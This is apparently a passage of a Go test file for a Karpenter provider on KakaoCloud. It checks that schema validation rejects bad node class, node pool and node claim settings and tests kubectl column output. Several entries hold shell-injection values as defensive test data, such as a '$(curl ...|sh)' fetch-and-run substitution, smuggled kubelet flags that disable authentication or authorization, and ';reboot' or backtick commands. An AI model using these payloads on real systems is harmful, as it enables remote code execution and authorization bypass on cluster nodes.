			return kcNodeClass(func(u *unstructured.Unstructured) { del(u, "spec", "bootstrap", "kubernetesVersion") })
		}, "spec.bootstrap.kubernetesVersion: Required value"),
		Entry("a patch version", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, "1.36.2", "spec", "bootstrap", "kubernetesVersion") })
		}, `spec.bootstrap.kubernetesVersion: Invalid value: "1.36.2": spec.bootstrap.kubernetesVersion in body should match '^[0-9]+\.[0-9]+$'`),
		Entry("a version with a v prefix", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, "v1.36", "spec", "bootstrap", "kubernetesVersion") })
		}, `spec.bootstrap.kubernetesVersion: Invalid value: "v1.36"`),
		Entry("no subnets", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, []any{}, "spec", "subnetSelectorTerms") })
		}, "spec.subnetSelectorTerms: Invalid value: 0: spec.subnetSelectorTerms in body should have at least 1 items"),
		Entry("a subnet term with both id and name", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"id": "abc", "name": "subnet-a"}}, "spec", "subnetSelectorTerms")
			})
		}, "a subnet selector term needs exactly one of 'id' or 'name'"),
		Entry("an empty subnet term", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, []any{map[string]any{}}, "spec", "subnetSelectorTerms") })
		}, "a subnet selector term needs exactly one of 'id' or 'name'"),
		Entry("a security group term with both id and name", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"id": "abc", "name": "workers"}}, "spec", "securityGroupSelectorTerms")
			})
		}, "a security group selector term needs exactly one of 'id' or 'name'"),
		Entry("no security groups", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { del(u, "spec", "securityGroupSelectorTerms") })
		}, "spec.securityGroupSelectorTerms: Required value"),
		Entry("a root volume below 30 GiB", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, map[string]any{"sizeGiB": int64(10)}, "spec", "rootVolume") })
		}, "spec.rootVolume.sizeGiB in body should be greater than or equal to 30"),
		Entry("an image id with a space", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, "image 1", "spec", "imageID") })
		}, `spec.imageID: Invalid value: "image 1"`),
		// An empty string set explicitly is refused, not taken as unset.
		Entry("an empty key pair name", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, "", "spec", "keyPairName") })
		}, "spec.keyPairName in body should be at least 1 chars long"),
		Entry("an empty volume type", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, map[string]any{"typeID": ""}, "spec", "rootVolume") })
		}, "spec.rootVolume.typeID in body should be at least 1 chars long"),
		Entry("user data over 8 KiB", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, strings.Repeat("#", 8193), "spec", "userData") })
		}, "spec.userData: Too long: may not be more than 8192 bytes"),
		Entry("image GC high threshold below the low one", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"imageGCHighThresholdPercent": int64(50), "imageGCLowThresholdPercent": int64(60)}, "spec", "kubelet")
			})
		}, "imageGCHighThresholdPercent must be greater than imageGCLowThresholdPercent"),
		Entry("a soft eviction threshold without a grace period", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"evictionSoft": map[string]any{"memory.available": "500Mi"}}, "spec", "kubelet")
			})
		}, "every evictionSoft signal needs an evictionSoftGracePeriod"),
		Entry("a reserved resource that kubelet does not reserve", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"systemReserved": map[string]any{"nvidia.com/gpu": "1"}}, "spec", "kubelet")
			})
		}, "systemReserved keys must be cpu, memory, ephemeral-storage or pid"),
		Entry("an unknown hard eviction signal", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"evictionHard": map[string]any{"disk.available": "10%"}}, "spec", "kubelet")
			})
		}, "evictionHard keys must be one of memory.available"),
		Entry("a negative kube-reserved value", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"kubeReserved": map[string]any{"memory": "-1Gi"}}, "spec", "kubelet")
			})
		}, "kubeReserved values cannot be negative quantities"),
		Entry("maxPods 0", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { set(u, map[string]any{"maxPods": int64(0)}, "spec", "kubelet") })
		}, "spec.kubelet.maxPods in body should be greater than or equal to 1"),
		// Names that nodes carry as label values.
		Entry("a KCNodeClass name over 63 characters", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) { u.SetName(strings.Repeat("k", 64)) })
		}, "a KCNodeClass name is at most 63 characters"),
		Entry("a NodePool name over 63 characters", func() *unstructured.Unstructured {
			u := object(seed001NodePool)
			u.SetName(strings.Repeat("p", 64))
			return u
		}, "a NodePool name is at most 63 characters"),
		// Values that reach the join script: each must be of its form, whatever it holds.
		Entry("a command substitution as cluster DNS", kubelet("clusterDNS", []any{"$(curl -s http://x/y|sh)"}),
			"clusterDNS entries must be IP addresses"),
		Entry("a flag after a cluster DNS address", kubelet("clusterDNS", []any{"10.96.0.10 --anonymous-auth=true"}),
			"clusterDNS entries must be IP addresses"),
		Entry("a host name as cluster DNS", kubelet("clusterDNS", []any{"dns.example.com"}),
			"clusterDNS entries must be IP addresses"),
		Entry("a quote and a flag in systemReserved", kubelet("systemReserved", map[string]any{"memory": `1Gi" --authorization-mode=AlwaysAllow "`}),
			"systemReserved values must be quantities"),
		Entry("a word as kubeReserved", kubelet("kubeReserved", map[string]any{"cpu": "lots"}),
			"kubeReserved values must be quantities"),
		Entry("a command after a kubeReserved quantity", kubelet("kubeReserved", map[string]any{"pid": "100;reboot"}),
			"kubeReserved values must be quantities"),
		Entry("a back-quoted command after an evictionHard percentage", kubelet("evictionHard", map[string]any{"memory.available": "5%`reboot`"}),
			"evictionHard values must be percentages of at most 100%"),
		Entry("an evictionHard percentage over 100", kubelet("evictionHard", map[string]any{"memory.available": "150%"}),
			"evictionHard values must be percentages of at most 100%"),
		Entry("a substitution as an evictionSoft value", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, map[string]any{
					"evictionSoft":            map[string]any{"memory.available": "$(reboot)"},
					"evictionSoftGracePeriod": map[string]any{"memory.available": "1m"},
				}, "spec", "kubelet")
			})
		}, "evictionSoft values must be percentages of at most 100%"),
		Entry("a kubelet value too long to be a quantity", kubelet("systemReserved", map[string]any{"memory": strings.Repeat("9", 65)}),
			"spec.kubelet.systemReserved.memory: Too long: may not be more than 64 bytes"),
	)

	DescribeTable("rejects invalid updates",
		func(manifest string, mutate func(*unstructured.Unstructured), message string) {
			u := object(manifest)
			Expect(k8sClient.Create(ctx, u)).To(Succeed())
			current := get(u)
			mutate(current)
			err := k8sClient.Update(ctx, current)
			Expect(err).To(HaveOccurred())
			Expect(err.Error()).To(ContainSubstring(message))
		},
		Entry("a NodeClaim's spec", baseNodeClaim, func(u *unstructured.Unstructured) {
			set(u, map[string]any{"cpu": "2"}, "spec", "resources", "requests")
		}, "spec is immutable"),
		Entry("a NodePool's nodeClassRef group", seed001NodePool, func(u *unstructured.Unstructured) {
			set(u, "karpenter.k8s.aws", "spec", "template", "spec", "nodeClassRef", "group")
		}, "nodeClassRef.group is immutable"),
		Entry("a NodePool's nodeClassRef kind", seed001NodePool, func(u *unstructured.Unstructured) {
			set(u, "EC2NodeClass", "spec", "template", "spec", "nodeClassRef", "kind")
		}, "nodeClassRef.kind is immutable"),
		Entry("a dynamic NodePool made static", seed001NodePool, func(u *unstructured.Unstructured) {
			del(u, "spec", "limits")
			set(u, int64(2), "spec", "replicas")
		}, "a NodePool cannot switch between static (replicas set) and dynamic (replicas unset) provisioning"),
	)

	It("lets a NodePool's nodeClassRef name change (that drifts its nodes instead)", func() {
		np := object(seed001NodePool)
		Expect(k8sClient.Create(ctx, np)).To(Succeed())
		current := get(np)
		set(current, "other", "spec", "template", "spec", "nodeClassRef", "name")
		Expect(k8sClient.Update(ctx, current)).To(Succeed())
	})
})

var _ = Describe("kubectl get", func() {
	It("shows the printer columns of NodePools, NodeClaims and KCNodeClasses", func() {
		np := object(seed003NodePool)
		Expect(k8sClient.Create(ctx, np)).To(Succeed())
		nodeClass := object(seedKCNodeClass)
		Expect(k8sClient.Create(ctx, nodeClass)).To(Succeed())
		claim := object(baseNodeClaim)
		Expect(k8sClient.Create(ctx, claim)).To(Succeed())

		// Status as the controllers will write it, so that the columns have values to show.
		set(nodeClass, map[string]any{
			"controlPlaneVersion": "1.36",
			"conditions": []any{map[string]any{
				"type": "Ready", "status": "True", "reason": "Ready", "message": "", "lastTransitionTime": "2026-11-29T00:00:00Z",
			}, map[string]any{
				"type": "NodesOnControlPlaneVersion", "status": "False", "reason": "NodesOffControlPlaneVersion", "message": "", "lastTransitionTime": "2026-11-29T00:00:00Z",
			}},
		}, "status")
		Expect(k8sClient.Status().Update(ctx, nodeClass)).To(Succeed())
		set(claim, map[string]any{
			"nodeName":   "kc-node-1",
			"providerID": "kakaocloud://0b7c6a1e-1111-4222-8333-944455556666",
			"conditions": []any{map[string]any{
				"type": "Ready", "status": "True", "reason": "Ready", "message": "", "lastTransitionTime": "2026-11-29T00:00:00Z",
			}},
		}, "status")
		Expect(k8sClient.Status().Update(ctx, claim)).To(Succeed())

		admin, err := testEnv.ControlPlane.AddUser(envtest.User{Name: "printer-columns", Groups: []string{"system:masters"}}, nil)
		Expect(err).NotTo(HaveOccurred())
		kubectl, err := admin.Kubectl()
		Expect(err).NotTo(HaveOccurred())
		stdout, stderr, err := kubectl.Run("get", "nodepools,nodeclaims,kcnodeclasses")
		out, _ := io.ReadAll(stdout)
		errOut, _ := io.ReadAll(stderr)
		Expect(err).NotTo(HaveOccurred(), string(errOut))
		GinkgoWriter.Printf("kubectl get nodepools,nodeclaims,kcnodeclasses:\n%s\n", out)

		Expect(headerFields(string(out), "nodepool.karpenter.sh/")).To(Equal([]string{"NAME", "NODECLASS", "NODES", "DRIFTED", "BLOCKED", "READY", "AGE"}))
		Expect(headerFields(string(out), "nodeclaim.karpenter.sh/")).To(Equal([]string{"NAME", "TYPE", "CAPACITY", "ZONE", "NODE", "READY", "AGE"}))
		Expect(headerFields(string(out), "kcnodeclass.karpenter.kakaocloud.com/")).To(Equal([]string{"NAME", "VERSION", "CONTROLPLANE", "READY", "NODESONCP", "AGE"}))
		Expect(rowFields(string(out), "nodeclaim.karpenter.sh/"+claim.GetName())).To(HaveExactElements(
			"nodeclaim.karpenter.sh/"+claim.GetName(), "m2a.large", "on-demand", "kr-central-2-a", "kc-node-1", "True", Not(BeEmpty())))
		Expect(rowFields(string(out), "kcnodeclass.karpenter.kakaocloud.com/"+nodeClass.GetName())).To(HaveExactElements(
			"kcnodeclass.karpenter.kakaocloud.com/"+nodeClass.GetName(), "1.36", "1.36", "True", "False", Not(BeEmpty())))

		stdout, stderr, err = kubectl.Run("get", "nodeclaims", "-o", "wide")
		out, _ = io.ReadAll(stdout)
		errOut, _ = io.ReadAll(stderr)
		Expect(err).NotTo(HaveOccurred(), string(errOut))
		Expect(strings.Fields(strings.SplitN(string(out), "\n", 2)[0])).To(Equal([]string{
			"NAME", "TYPE", "CAPACITY", "ZONE", "NODE", "READY", "AGE", "IMAGEID", "ID", "NODEPOOL", "NODECLASS", "DRIFTED", "SIGNINGKEY"}))
	})
})

// headerFields returns the column names of the table whose rows start with prefix: kubectl
// prints a header line before each kind's rows.
func headerFields(out, prefix string) []string {
	lines := strings.Split(out, "\n")
	for i, line := range lines {
		if strings.HasPrefix(line, prefix) && i > 0 {
			return strings.Fields(lines[i-1])
		}
	}
	return nil
}

func rowFields(out, name string) []string {
	for line := range strings.SplitSeq(out, "\n") {
		if f := strings.Fields(line); len(f) > 0 && f[0] == name {
			return f
		}
	}
	return nil
}
